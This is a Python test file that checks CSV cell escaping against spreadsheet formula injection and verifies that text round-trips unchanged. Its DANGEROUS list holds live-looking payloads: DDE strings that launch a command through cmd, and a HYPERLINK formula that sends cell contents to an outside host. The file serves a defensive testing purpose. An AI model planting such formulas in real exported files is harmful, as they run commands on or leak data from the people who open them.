"""Cells: no spreadsheet takes one for a formula, and each gives back the text that was written."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.community.porting.cells import read_cell, write_cell
from tests.security.corpora import cases

pytestmark = pytest.mark.asvs("V1.2.10")

DANGEROUS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1)', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "-2+3+cmd|' /C calc'!D2", "'=1", "''=1", "'\t=1", "@", "=",
)  # fmt: skip
HARMLESS = ("Nova", "'tis", "''quoted''", "a=b", "1-1", "x@example.org", "o'neill", "½", "\u200b=1")
TEXTS = st.text(
    alphabet=st.one_of(
        st.sampled_from("'=+-@\t\r\n \u00a0\uff1da\"',;"), st.characters(codec="utf-8")
    )
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert write_cell(text) == f"'{text}"
    assert read_cell(f"'{text}") == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are_also_those_from_somebodys_hand(text: str) -> None:
    assert write_cell(text) == text
    assert read_cell(text) == text


@pytest.mark.parametrize("text", [one for one in DANGEROUS if not one.startswith("'")])
def test_what_somebody_wrote_without_an_apostrophe_is_read_as_it_stands(text: str) -> None:
    assert read_cell(text) == text


def test_an_empty_cell_is_nothing_and_an_empty_text_is_a_text() -> None:
    assert write_cell(None) == ""
    assert read_cell("") is None
    assert read_cell(write_cell("")) == ""
    assert read_cell(write_cell("'")) == "'"


@given(TEXTS)
def test_every_text_comes_back_and_none_begins_like_a_formula(text: str) -> None:
    cell = write_cell(text)
    assert read_cell(cell) == text
    assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))


@pytest.mark.parametrize("case", cases("naughty_strings"), ids=lambda case: case["id"])
def test_naughty_strings_survive_a_csv_file(case: dict[str, str]) -> None:
    text = case["value"]
    written = io.StringIO(newline="")
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow([write_cell(text)])
    [[cell]] = csv.reader(io.StringIO(written.getvalue(), newline=""), strict=True)
    assert read_cell(cell) == text
